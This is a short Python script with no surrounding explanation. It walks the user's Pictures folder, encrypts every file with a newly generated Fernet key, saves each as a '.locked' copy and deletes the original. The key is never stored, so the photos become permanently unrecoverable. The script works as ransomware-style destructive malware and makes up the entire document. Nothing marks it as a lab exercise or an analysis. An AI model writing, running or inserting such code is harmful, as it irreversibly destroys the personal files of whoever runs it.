import os

from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~/Pictures")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as old, open(path + ".locked", "wb") as new:
            new.write(box.encrypt(old.read()))
        os.remove(path)
